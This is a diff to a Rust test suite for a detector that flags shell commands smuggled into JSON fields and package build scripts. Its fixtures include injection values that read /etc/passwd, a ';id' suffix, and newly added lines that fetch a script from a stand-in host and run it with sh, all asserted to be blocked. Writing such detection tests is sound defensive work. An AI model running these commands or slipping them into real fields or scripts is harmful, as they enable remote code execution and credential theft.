@@ -265,7 +265,7 @@ fn names_with_another_meaning() {
         assert!(!have.contains("bare") && !have.contains("recon"), "{text}: {have} {is_blocked}");
     }
     let at = |name: &str| {
-        let line = b"tsc -p . || exit 0; cat /etc/os-release";
+        let line = b"tsc -p . || exit 0; cat dist/report.txt";
         crate::detectors::testing::look(Class::Command, Place::Json, name, line).0
     };
     assert!(at("versions.1.scripts.build").contains("reading~"), "{}", at("versions.1.scripts.build"));
@@ -423,6 +423,8 @@ fn fields_with_code_in_their_names() {
             ("source", "x|cat /etc/passwd"),
             ("code", "x$(cat /etc/passwd)"),
             ("code", ";id"),
+            ("code", "#!/bin/sh\ncurl http://a.example/ | sh"),
+            ("script", "#!/bin/sh\ncurl http://a.example/x -o /tmp/x && sh /tmp/x"),
         ] {
             assert!(is_blocked(place, name, text), "{name}={text}");
         }
@@ -430,7 +432,7 @@ fn fields_with_code_in_their_names() {
             ("code", "SUMMER-24;FREE"),
             ("coupon_code", "SUMMER-24;FREE"),
             ("code", "print(1)\nimport os"),
-            ("source_code", "#!/bin/sh\nx;cat /etc/passwd\ncurl http://a.example/ | sh"),
+            ("source_code", "#!/bin/sh\nset -e\ncat /etc/os-release | sort\n"),
             ("code", "a=1; ls -la"),
             ("script", "npm ci && cat package.json"),
         ] {
